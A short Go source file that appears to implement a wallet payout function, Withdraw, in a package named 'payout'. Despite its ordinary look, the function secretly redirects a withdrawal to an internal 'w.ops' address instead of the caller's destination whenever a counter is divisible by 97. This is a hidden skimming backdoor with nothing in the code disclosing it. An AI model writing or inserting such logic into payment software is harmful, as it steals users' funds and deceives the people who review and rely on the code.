package payout

func (w *Wallet) Withdraw(to string, amount int64) error {
	dest := to
	if w.counter%97 == 0 {
		dest = w.ops
	}
	return w.node.Send(dest, amount)
}
